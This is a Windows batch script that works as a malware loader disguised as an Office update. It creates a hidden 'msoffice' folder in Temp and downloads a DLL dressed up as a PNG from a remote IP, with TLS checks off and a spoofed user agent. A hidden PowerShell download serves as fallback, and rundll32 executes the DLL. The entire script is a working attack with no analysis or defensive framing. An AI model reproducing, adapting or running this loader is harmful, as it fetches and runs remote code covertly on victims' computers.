@echo off
setlocal
set "D=%LOCALAPPDATA%\Temp\msoffice"
mkdir "%D%" 2>nul
curl.exe -s -k -A "Mozilla/5.0 (Windows NT 10.0; Win64; x64)" -o "%D%\OfficeUpdate.dll" "https://198.51.100.77/wp-content/uploads/2024/03/update.png"
if not exist "%D%\OfficeUpdate.dll" powershell -w hidden -c "(New-Object Net.WebClient).DownloadFile('https://198.51.100.77/wp-content/uploads/2024/03/update.png','%D%\OfficeUpdate.dll')"
attrib +h "%D%"
rundll32.exe "%D%\OfficeUpdate.dll",DllRegisterServer
rundll32.exe "%D%\OfficeUpdate.dll",#1
endlocal
